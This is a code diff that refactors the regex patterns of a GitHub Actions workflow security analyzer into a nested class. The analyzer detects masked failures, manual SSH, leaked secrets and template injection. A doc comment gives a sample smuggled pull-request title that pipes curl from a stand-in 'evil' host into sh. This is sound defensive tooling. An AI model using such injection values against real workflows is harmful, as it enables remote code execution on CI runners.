@@ -23,36 +23,45 @@ public final class WorkflowAnalyzer {
     /** A copied run of at least this many consecutive steps is worth a composite action. */
     static final int MIN_DUPLICATE_RUN = 4;
 
-    private static final Pattern OR_TRUE = Pattern.compile("\\|\\|\\s*(true\\b|:(\\s|$)|echo\\b|exit\\s+0\\b)");
-    /** A branch taken when something failed: if ! cmd, if [ $? -ne 0 ], if [ "$status" != "200" ]. */
-    private static final Pattern FAILURE_BRANCH = Pattern.compile("^\\s*(if|elif)\\b.*(!|-ne\\b|-gt\\s+0|\\$\\?)");
-    private static final Pattern EXIT_ZERO = Pattern.compile("(^\\s*|[;&|]\\s*|\\bthen\\s+)exit\\s+0\\b");
-    private static final Pattern SET_PLUS_E = Pattern.compile("(^|[;&|]\\s*)set\\s+(\\+e\\b|\\+o\\s+errexit)");
-    private static final Pattern SSH_COMMAND = Pattern.compile(
-            "(^|[;&|(]\\s*|\\bsudo\\s+)(ssh|scp|sshpass|rsync)\\s");
-    private static final Pattern RSYNC_REMOTE = Pattern.compile("\\S+:\\S*");
-    private static final Pattern SSH_ACTION = Pattern.compile(
-            "(?i)^(appleboy/ssh-action|appleboy/scp-action|easingthemes/ssh-deploy|burnett01/rsync-deployments"
-                    + "|garygrossgarten/github-action-ssh|cross-the-world/ssh-scp-ssh-pipelines|D3rHase/ssh-command-action)");
-    private static final Pattern KUBECTL_EXEC = Pattern.compile("\\bkubectl\\s+(\\S+\\s+)*exec\\b");
-    private static final Pattern IPV4 = Pattern.compile("(?<![\\w.])((?:25[0-5]|2[0-4]\\d|1?\\d?\\d)(?:\\.(?:25[0-5]|2[0-4]\\d|1?\\d?\\d)){3})(?![\\w.])");
-    private static final Pattern SECRET_REF = Pattern.compile("\\$\\{\\{\\s*secrets\\.([A-Za-z0-9_]+)\\s*}}");
-    private static final Pattern ECHO = Pattern.compile("(^|[;&|]\\s*)(echo|printf|cat\\s*<<)\\b");
-    private static final Pattern REDIRECT = Pattern.compile("(?<!>)>>?+\\s*+(\\S+)");
-    private static final Pattern RUNNER_FILE = Pattern.compile("\"?\\$\\{?GITHUB_(ENV|OUTPUT|STEP_SUMMARY|PATH)\\b.*|/dev/null.*");
-    private static final Pattern PINNED = Pattern.compile("@[0-9a-f]{40}$");
     /**
-     * An expression in a run: script is pasted into the script text before the shell sees it, so
-     * a pull request title like {@code a"; curl evil | sh; "} runs. Event fields that are numbers,
-     * ids or commit SHAs cannot carry code and are not reported.
+     * The patterns of the checks, in a class of their own: compiled when the first workflow is looked at,
+     * not when a repository without workflows is analysed (about 35 ms of a short run's CPU).
      */
-    static final Pattern EXPRESSION = Pattern.compile("\\$\\{\\{(.*?)}}");
-    static final Pattern UNTRUSTED = Pattern.compile(
-            "(?<![\\w.])(github\\.event\\.[\\w.*\\[\\]'-]+|github\\.head_ref|inputs\\.[\\w-]+|github\\.event\\[[^]]+][\\w.\\[\\]'-]*)");
-    static final Pattern SAFE_EVENT_FIELD = Pattern.compile(
-            "(?i).*(\\.|_)(number|id|sha|before|after|run_id|run_number|run_attempt|size|draft|merged|forced|created|deleted"
-                    + "|default_branch_only|private|fork|stargazers_count|ref_type)$");
-    private static final Pattern FLOATING = Pattern.compile("(?i)latest|\\*|x|stable|lts/\\*|node|current");
+    static final class Patterns {
+        private static final Pattern OR_TRUE = Pattern.compile("\\|\\|\\s*(true\\b|:(\\s|$)|echo\\b|exit\\s+0\\b)");
+        /** A branch taken when something failed: if ! cmd, if [ $? -ne 0 ], if [ "$status" != "200" ]. */
+        private static final Pattern FAILURE_BRANCH = Pattern.compile("^\\s*(if|elif)\\b.*(!|-ne\\b|-gt\\s+0|\\$\\?)");
+        private static final Pattern EXIT_ZERO = Pattern.compile("(^\\s*|[;&|]\\s*|\\bthen\\s+)exit\\s+0\\b");
+        private static final Pattern SET_PLUS_E = Pattern.compile("(^|[;&|]\\s*)set\\s+(\\+e\\b|\\+o\\s+errexit)");
+        private static final Pattern SSH_COMMAND = Pattern.compile(
+                "(^|[;&|(]\\s*|\\bsudo\\s+)(ssh|scp|sshpass|rsync)\\s");
+        private static final Pattern RSYNC_REMOTE = Pattern.compile("\\S+:\\S*");
+        private static final Pattern SSH_ACTION = Pattern.compile(
+                "(?i)^(appleboy/ssh-action|appleboy/scp-action|easingthemes/ssh-deploy|burnett01/rsync-deployments"
+                        + "|garygrossgarten/github-action-ssh|cross-the-world/ssh-scp-ssh-pipelines|D3rHase/ssh-command-action)");
+        private static final Pattern KUBECTL_EXEC = Pattern.compile("\\bkubectl\\s+(\\S+\\s+)*exec\\b");
+        private static final Pattern IPV4 = Pattern.compile("(?<![\\w.])((?:25[0-5]|2[0-4]\\d|1?\\d?\\d)(?:\\.(?:25[0-5]|2[0-4]\\d|1?\\d?\\d)){3})(?![\\w.])");
+        private static final Pattern SECRET_REF = Pattern.compile("\\$\\{\\{\\s*secrets\\.([A-Za-z0-9_]+)\\s*}}");
+        private static final Pattern ECHO = Pattern.compile("(^|[;&|]\\s*)(echo|printf|cat\\s*<<)\\b");
+        private static final Pattern REDIRECT = Pattern.compile("(?<!>)>>?+\\s*+(\\S+)");
+        private static final Pattern RUNNER_FILE = Pattern.compile("\"?\\$\\{?GITHUB_(ENV|OUTPUT|STEP_SUMMARY|PATH)\\b.*|/dev/null.*");
+        private static final Pattern PINNED = Pattern.compile("@[0-9a-f]{40}$");
+        /**
+         * An expression in a run: script is pasted into the script text before the shell sees it, so
+         * a pull request title like {@code a"; curl evil | sh; "} runs. Event fields that are numbers,
+         * ids or commit SHAs cannot carry code and are not reported.
+         */
+        static final Pattern EXPRESSION = Pattern.compile("\\$\\{\\{(.*?)}}");
+        static final Pattern UNTRUSTED = Pattern.compile(
+                "(?<![\\w.])(github\\.event\\.[\\w.*\\[\\]'-]+|github\\.head_ref|inputs\\.[\\w-]+|github\\.event\\[[^]]+][\\w.\\[\\]'-]*)");
+        static final Pattern SAFE_EVENT_FIELD = Pattern.compile(
+                "(?i).*(\\.|_)(number|id|sha|before|after|run_id|run_number|run_attempt|size|draft|merged|forced|created|deleted"
+                        + "|default_branch_only|private|fork|stargazers_count|ref_type)$");
+        private static final Pattern FLOATING = Pattern.compile("(?i)latest|\\*|x|stable|lts/\\*|node|current");
+
+        private Patterns() {
+        }
+    }
 
     private WorkflowAnalyzer() {
     }
@@ -164,11 +173,11 @@ public final class WorkflowAnalyzer {
         }
         if (step.uses() != null) {
             String uses = step.uses().strip();
-            if (!uses.startsWith("./") && !uses.startsWith("docker://") && !PINNED.matcher(uses).find()) {
+            if (!uses.startsWith("./") && !uses.startsWith("docker://") && !Patterns.PINNED.matcher(uses).find()) {
                 out.add(finding(WorkflowRule.UNPINNED_ACTION, path, line(step.usesLine(), step.line()), uses,
                         WorkflowRule.UNPINNED_ACTION.title() + ": " + uses, where + uses));
             }
-            if (SSH_ACTION.matcher(uses).find()) {
+            if (Patterns.SSH_ACTION.matcher(uses).find()) {
                 out.add(finding(WorkflowRule.MANUAL_SSH, path, line(step.usesLine(), step.line()), uses,
                         WorkflowRule.MANUAL_SSH.title() + ": " + uses, where + "ssh-action"));
             }
@@ -177,11 +186,11 @@ public final class WorkflowAnalyzer {
             Workflow.Value v = e.getValue();
             String k = e.getKey().toLowerCase(Locale.ROOT);
             if ((k.equals("host") || k.equals("hostname") || k.equals("server") || k.equals("remote_host"))
-                    && !v.text().contains("${{") && !IPV4.matcher(v.text()).find() && v.text().contains(".")) {
+                    && !v.text().contains("${{") && !Patterns.IPV4.matcher(v.text()).find() && v.text().contains(".")) {
                 out.add(finding(WorkflowRule.HARDCODED_HOST, path, v.line(), e.getKey(),
                         "hard-coded host in a workflow: " + v.text().strip(), where + "host:" + v.text()));
             }
-            if (e.getKey().toLowerCase(Locale.ROOT).endsWith("version") && FLOATING.matcher(v.text().strip()).matches()) {
+            if (e.getKey().toLowerCase(Locale.ROOT).endsWith("version") && Patterns.FLOATING.matcher(v.text().strip()).matches()) {
                 out.add(finding(WorkflowRule.FLOATING_VERSION, path, v.line(), e.getKey(),
                         WorkflowRule.FLOATING_VERSION.title() + ": " + e.getKey() + ": " + v.text(), where + e.getKey()));
             }
@@ -204,40 +213,40 @@ public final class WorkflowAnalyzer {
             String l = lines[i];
             String code = stripComment(l);
             int lineNo = step.runLine() + i;
-            if (FAILURE_BRANCH.matcher(code).find()) {
+            if (Patterns.FAILURE_BRANCH.matcher(code).find()) {
                 failureBranchUntil = i + 3;
             }
             // under bash -e (GitHub's default) a failed command stops the script before a final
             // exit 0; after set +e, or in the branch that handles a failure, exit 0 hides it
-            if (!OR_TRUE.matcher(code).find() && EXIT_ZERO.matcher(code).find() && (i <= failureBranchUntil || errexitOff)) {
+            if (!Patterns.OR_TRUE.matcher(code).find() && Patterns.EXIT_ZERO.matcher(code).find() && (i <= failureBranchUntil || errexitOff)) {
                 out.add(finding(WorkflowRule.MASK_OR_TRUE, path, lineNo, stepLabel(step),
                         stepLabel(step) + ": exit 0 after a failed check", where + ":exit0:" + i));
             }
-            errexitOff |= SET_PLUS_E.matcher(code.strip()).find();
-            if (OR_TRUE.matcher(code).find()) {
+            errexitOff |= Patterns.SET_PLUS_E.matcher(code.strip()).find();
+            if (Patterns.OR_TRUE.matcher(code).find()) {
                 out.add(finding(WorkflowRule.MASK_OR_TRUE, path, lineNo, stepLabel(step), null, where + ":" + code.strip()));
             }
-            if (SET_PLUS_E.matcher(code.strip()).find()) {
+            if (Patterns.SET_PLUS_E.matcher(code.strip()).find()) {
                 out.add(finding(WorkflowRule.MASK_SET_E, path, lineNo, stepLabel(step), null, where + ":" + code.strip()));
             }
-            Matcher ssh = SSH_COMMAND.matcher(code.strip());
-            if (ssh.find() && (!ssh.group(2).equals("rsync") || RSYNC_REMOTE.matcher(code.substring(code.indexOf("rsync"))).find()
+            Matcher ssh = Patterns.SSH_COMMAND.matcher(code.strip());
+            if (ssh.find() && (!ssh.group(2).equals("rsync") || Patterns.RSYNC_REMOTE.matcher(code.substring(code.indexOf("rsync"))).find()
                     && !code.contains("rsync -a ./") || code.contains("-e ssh") || code.contains("-e \"ssh"))) {
                 out.add(finding(WorkflowRule.MANUAL_SSH, path, lineNo, stepLabel(step),
                         WorkflowRule.MANUAL_SSH.title() + ": " + ssh.group(2), where + ":" + code.strip()));
             }
-            if (KUBECTL_EXEC.matcher(code).find()) {
+            if (Patterns.KUBECTL_EXEC.matcher(code).find()) {
                 out.add(finding(WorkflowRule.MANUAL_KUBECTL_EXEC, path, lineNo, stepLabel(step), null, where + ":" + code.strip()));
             }
             hosts(path, code, lineNo, out);
-            if (SECRET_REF.matcher(code).find() && ECHO.matcher(code.strip()).find()) {
-                Matcher redirect = REDIRECT.matcher(code);
+            if (Patterns.SECRET_REF.matcher(code).find() && Patterns.ECHO.matcher(code.strip()).find()) {
+                Matcher redirect = Patterns.REDIRECT.matcher(code);
                 boolean toFile = redirect.find();
-                if (toFile && RUNNER_FILE.matcher(redirect.group(1)).matches()) {
+                if (toFile && Patterns.RUNNER_FILE.matcher(redirect.group(1)).matches()) {
                     // handing a value to later steps through the runner's files is how secrets are meant to flow
                     continue;
                 }
-                Matcher ref = SECRET_REF.matcher(code);
+                Matcher ref = Patterns.SECRET_REF.matcher(code);
                 ref.find();
                 out.add(finding(WorkflowRule.SECRET_EXPOSED, path, lineNo, ref.group(1),
                         "secrets." + ref.group(1) + (toFile ? " is written to a file" : " is echoed to the log"),
@@ -247,16 +256,16 @@ public final class WorkflowAnalyzer {
     }
 
     static boolean untrusted(String ctx) {
-        return !(ctx.startsWith("github.event") && SAFE_EVENT_FIELD.matcher(ctx).matches());
+        return !(ctx.startsWith("github.event") && Patterns.SAFE_EVENT_FIELD.matcher(ctx).matches());
     }
 
     /** zizmor's template-injection: an attacker-controlled expression inside a run: script, one finding per line. */
     private static void injection(String path, Workflow.Step step, String where, String[] lines, List<Finding> out) {
         for (int i = 0; i < lines.length; i++) {
-            Matcher e = EXPRESSION.matcher(lines[i]);
+            Matcher e = Patterns.EXPRESSION.matcher(lines[i]);
             List<String> found = new ArrayList<>();
             while (e.find()) {
-                Matcher u = UNTRUSTED.matcher(e.group(1));
+                Matcher u = Patterns.UNTRUSTED.matcher(e.group(1));
                 while (u.find()) {
                     String ctx = u.group(1);
                     if (untrusted(ctx) && !found.contains(ctx)) {
@@ -276,7 +285,7 @@ public final class WorkflowAnalyzer {
         if (text == null || text.indexOf('.') < 0) {
             return;
         }
-        Matcher m = IPV4.matcher(text);
+        Matcher m = Patterns.IPV4.matcher(text);
         while (m.find()) {
             String ip = m.group(1);
             if (ip.startsWith("127.") || ip.equals("0.0.0.0") || ip.startsWith("255.")) {
